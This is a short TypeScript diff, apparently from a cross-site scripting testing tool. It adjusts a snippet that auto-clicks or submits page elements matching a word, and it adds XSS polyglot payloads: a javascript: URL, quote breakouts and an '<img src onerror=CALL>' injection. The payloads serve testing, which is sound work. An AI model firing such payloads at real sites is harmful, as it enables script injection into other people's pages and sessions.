@@ -17,7 +17,7 @@ export const writePayload = ({ text }: Payload, word: string) => text.replaceAll
 export function pressing(word: string): string {
   return `(() => {
     const has = ({ attributes }) => [...attributes].some(({ value }) => value.includes('${word}'));
-    const found = [...document.querySelectorAll('*')].filter(has);
+    const found = [...document.querySelectorAll(':not(iframe)')].filter(has);
     const press = (each) => each.tagName === 'FORM' ? each.requestSubmit() : each.click?.();
     setTimeout(() => found.forEach(press));
     return found.length > 0 ? 'pressed' : '';
@@ -26,6 +26,8 @@ export function pressing(word: string): string {
 
 /** Without a request of its own: an empty address fails at once. */
 export const MARKUP = '<img src onerror=CALL>';
+/** At once what an address, a program, a string in one and a page would run; then what ends an attribute. */
+export const POLYGLOTS = [`javascript:CALL//'-CALL-'"-CALL-"${MARKUP}`, `'">${MARKUP}`];
 const ODD = `<>"'`;
 /** Also when each of them is written as an entity. */
 const MOST_SURVIVED = 200;
